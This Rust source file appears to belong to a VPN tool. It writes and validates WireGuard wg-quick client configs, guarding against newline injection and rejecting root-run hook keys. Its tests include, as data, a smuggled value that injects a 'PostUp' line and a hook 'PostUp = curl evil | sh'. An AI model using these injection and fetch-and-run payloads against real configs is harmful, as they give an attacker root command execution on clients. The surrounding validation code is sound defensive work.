//! wg-quick client configs: the one writer every config goes through, and
//! the check `anygatectl config verify` applies to a config it is handed.
//!
//! wg-quick runs as root and executes `PreUp`/`PostUp`/`PreDown`/`PostDown`
//! through bash, and it reads a config line by line (`#` starts a comment).
//! So a value with a newline becomes a key of its own, and a hook key is a
//! root command on the client. The writer refuses any value that could end
//! its line or start a comment, and renders comments on one line; the
//! check accepts only the sections and keys anygate writes.

use std::fmt::Write as _;

/// The keys anygate writes, per section. Nothing else is accepted by
/// [`check`]: no hooks, no `Table`, `SaveConfig` or `FwMark`.
pub const INTERFACE_KEYS: &[&str] = &["PrivateKey", "Address", "DNS", "MTU"];
pub const PEER_KEYS: &[&str] = &[
    "PublicKey",
    "PresharedKey",
    "Endpoint",
    "AllowedIPs",
    "PersistentKeepalive",
];

/// A value the writer refuses.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{key} value {value:?} cannot go into a client config: it is empty or holds a line break, a control character or '#'")]
pub struct ValueError {
    pub key: &'static str,
    pub value: String,
}

/// Builds a wg-quick file. Keys are `&'static str` (the writer's caller
/// names them in code); values are checked; comments are made one line.
#[derive(Debug, Default)]
pub struct Writer {
    out: String,
    sections: usize,
}

impl Writer {
    pub fn new() -> Writer {
        Writer::default()
    }

    /// `# text`, with control characters (a line break included) shown
    /// escaped, so a name cannot end the comment.
    pub fn comment(&mut self, text: &str) -> &mut Self {
        let safe: String = text
            .chars()
            .flat_map(|c| match c.is_control() {
                true => c.escape_default().collect::<Vec<_>>(),
                false => vec![c],
            })
            .collect();
        let _ = writeln!(self.out, "# {safe}");
        self
    }

    /// `[Interface]` or `[Peer]`, with a blank line before all but the first.
    pub fn section(&mut self, name: &'static str) -> &mut Self {
        if self.sections > 0 {
            self.out.push('\n');
        }
        self.sections += 1;
        let _ = writeln!(self.out, "[{name}]");
        self
    }

    /// `Key = value`, or an error when the value could escape its line.
    pub fn key(&mut self, key: &'static str, value: &str) -> Result<&mut Self, ValueError> {
        let v = value.trim();
        if v.is_empty() || v.chars().any(|c| c.is_control() || c == '#') {
            return Err(ValueError {
                key,
                value: value.to_string(),
            });
        }
        let _ = writeln!(self.out, "{key} = {v}");
        Ok(self)
    }

    pub fn finish(self) -> String {
        self.out
    }
}

/// What a client config is made of, as text (the CLI has the API's
/// messages, the portal the replicated model; both write through here).
#[derive(Debug, Clone, Default)]
pub struct Client<'a> {
    /// `user/device`, for the heading comment.
    pub title: String,
    /// The client's public key (named where the private key goes when
    /// the writer does not have it).
    pub public_key: String,
    pub private_key: Option<&'a str>,
    pub preshared_key: Option<&'a str>,
    /// The client's tunnel addresses (bare, as allocated).
    pub addresses: Vec<String>,
    pub dns: Vec<String>,
    pub mtu: u32,
    pub server_public_key: String,
    /// The host clients dial: the endpoint host, else the IPv4 anycast
    /// address, else the IPv6 one (the first not empty).
    pub hosts: [String; 3],
    pub listen_port: u32,
    /// Routed into the tunnel; empty = everything.
    pub routes: Vec<String>,
    pub keepalive: u32,
}

/// Where the private key goes when the writer does not have it: the
/// portal's page puts the key its browser made in place of this line.
pub fn private_key_placeholder(public_key: &str) -> String {
    format!("PrivateKey = <the private key that belongs to {public_key}>")
}

/// A wg-quick config for a client. A value that could end its line (a
/// setting stored before settings were checked, a node that lies) is
/// refused instead of becoming a line of its own, e.g. a `PostUp` hook.
pub fn client(c: &Client) -> Result<String, ValueError> {
    let mut w = Writer::new();
    w.comment(&format!("anygate client config for {}", c.title));
    w.section("Interface");
    match c.private_key {
        Some(k) => {
            w.key("PrivateKey", k)?;
        }
        None => {
            w.comment(&private_key_placeholder(&c.public_key));
        }
    }
    let addrs: Vec<String> = c
        .addresses
        .iter()
        .map(|a| match a.contains(':') {
            true => format!("{a}/128"),
            false => format!("{a}/32"),
        })
        .collect();
    if !addrs.is_empty() {
        w.key("Address", &addrs.join(", "))?;
    }
    if !c.dns.is_empty() {
        w.key("DNS", &c.dns.join(", "))?;
    }
    w.key("MTU", &c.mtu.to_string())?;
    w.section("Peer");
    if c.server_public_key.is_empty() {
        w.comment("PublicKey unknown: set it with `anygatectl settings set --server-public-key`");
    } else {
        w.key("PublicKey", &c.server_public_key)?;
    }
    if let Some(k) = c.preshared_key {
        w.key("PresharedKey", k)?;
    }
    match c.hosts.iter().find(|h| !h.is_empty()) {
        Some(h) if h.contains(':') => {
            w.key("Endpoint", &format!("[{h}]:{}", c.listen_port))?;
        }
        Some(h) => {
            w.key("Endpoint", &format!("{h}:{}", c.listen_port))?;
        }
        None => {
            w.comment("Endpoint unknown: set `anygatectl settings set --anycast-v4 ADDR`");
        }
    }
    let routes = match c.routes.is_empty() {
        true => "0.0.0.0/0, ::/0".to_string(),
        false => c.routes.join(", "),
    };
    w.key("AllowedIPs", &routes)?;
    if c.keepalive > 0 {
        w.key("PersistentKeepalive", &c.keepalive.to_string())?;
    }
    Ok(w.finish())
}

/// Why [`check`] refuses a config.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum CheckError {
    #[error("line {line}: {key} is a hook: wg-quick runs it as a root command on the client; anygate never writes one")]
    Hook { line: usize, key: String },
    #[error("line {line}: {key} is not a key anygate writes in [{section}]")]
    UnknownKey {
        line: usize,
        section: String,
        key: String,
    },
    #[error("line {line}: section [{section}] is not one anygate writes")]
    UnknownSection { line: usize, section: String },
    #[error("line {line}: not a `Key = value` line")]
    Malformed { line: usize },
    #[error("line {line}: {key} outside any section")]
    NoSection { line: usize, key: String },
    #[error("the config has no [Interface] section, or more than one")]
    Interfaces,
}

/// Accepts only what [`Writer`] produces for a client: one `[Interface]`,
/// `[Peer]` sections, the keys in [`INTERFACE_KEYS`] / [`PEER_KEYS`],
/// comments and blank lines.
pub fn check(text: &str) -> Result<(), CheckError> {
    let mut section: Option<&str> = None;
    let mut interfaces = 0;
    for (i, raw) in text.lines().enumerate() {
        let line = i + 1;
        let t = raw.trim();
        if t.is_empty() || t.starts_with('#') {
            continue;
        }
        if let Some(name) = t.strip_prefix('[').and_then(|r| r.strip_suffix(']')) {
            match name {
                "Interface" => interfaces += 1,
                "Peer" => {}
                other => {
                    return Err(CheckError::UnknownSection {
                        line,
                        section: other.to_string(),
                    })
                }
            }
            section = Some(if name == "Interface" {
                "Interface"
            } else {
                "Peer"
            });
            continue;
        }
        let Some((k, _)) = t.split_once('=') else {
            return Err(CheckError::Malformed { line });
        };
        let key = k.trim();
        if matches!(
            key.to_ascii_lowercase().as_str(),
            "preup" | "postup" | "predown" | "postdown"
        ) {
            return Err(CheckError::Hook {
                line,
                key: key.to_string(),
            });
        }
        let allowed = match section {
            Some("Interface") => INTERFACE_KEYS,
            Some(_) => PEER_KEYS,
            None => {
                return Err(CheckError::NoSection {
                    line,
                    key: key.to_string(),
                })
            }
        };
        if !allowed.contains(&key) {
            return Err(CheckError::UnknownKey {
                line,
                section: section.unwrap_or_default().to_string(),
                key: key.to_string(),
            });
        }
    }
    if interfaces != 1 {
        return Err(CheckError::Interfaces);
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn config() -> String {
        let mut w = Writer::new();
        w.comment("anygate client config for alice/laptop");
        w.section("Interface");
        w.key("PrivateKey", "x")
            .unwrap()
            .key("MTU", "1420")
            .unwrap();
        w.section("Peer");
        w.key("Endpoint", "vpn.example.com:51820").unwrap();
        w.finish()
    }

    #[test]
    fn the_writer_keeps_every_value_on_its_line() {
        let c = config();
        assert_eq!(
            c,
            "# anygate client config for alice/laptop\n[Interface]\nPrivateKey = x\nMTU = 1420\n\n[Peer]\nEndpoint = vpn.example.com:51820\n"
        );
        check(&c).unwrap();
        let mut w = Writer::new();
        for bad in ["vpn\nPostUp = touch /tmp/x", "a#b", "", "a\rb", "x\u{7}"] {
            let e = w.key("Endpoint", bad).unwrap_err();
            assert_eq!(e.key, "Endpoint");
        }
        w.comment("for evil\nPostUp = touch /tmp/x/phone");
        let text = w.finish();
        assert_eq!(text, "# for evil\\nPostUp = touch /tmp/x/phone\n");
        assert_eq!(text.lines().count(), 1);
    }

    #[test]
    fn check_refuses_hooks_and_keys_anygate_does_not_write() {
        let with = |extra: &str| format!("{}{extra}\n", config());
        for hook in [
            "PostUp = curl evil | sh",
            "preup=id",
            "PreDown = x",
            "POSTDOWN = x",
        ] {
            assert!(
                matches!(check(&with(hook)), Err(CheckError::Hook { line: 8, .. })),
                "{hook}: {:?}",
                check(&with(hook))
            );
        }
        assert!(matches!(
            check(&with("Table = off")),
            Err(CheckError::UnknownKey { .. })
        ));
        let e = check(&config().replace("[Interface]\n", "[Interface]\nSaveConfig = true\n"))
            .unwrap_err();
        assert_eq!(
            e.to_string(),
            "line 3: SaveConfig is not a key anygate writes in [Interface]"
        );
        assert!(matches!(
            check(&with("[Hooks]")),
            Err(CheckError::UnknownSection { .. })
        ));
        assert!(matches!(
            check(&with("garbage")),
            Err(CheckError::Malformed { .. })
        ));
        assert!(matches!(
            check("PostUp = x\n[Interface]\n"),
            Err(CheckError::Hook { .. })
        ));
        assert!(matches!(
            check("MTU = 1\n[Interface]\n"),
            Err(CheckError::NoSection { .. })
        ));
        assert_eq!(
            check("[Peer]\nPublicKey = y\n"),
            Err(CheckError::Interfaces)
        );
        assert!(check(&with("# PostUp = a comment is fine")).is_ok());
    }
}
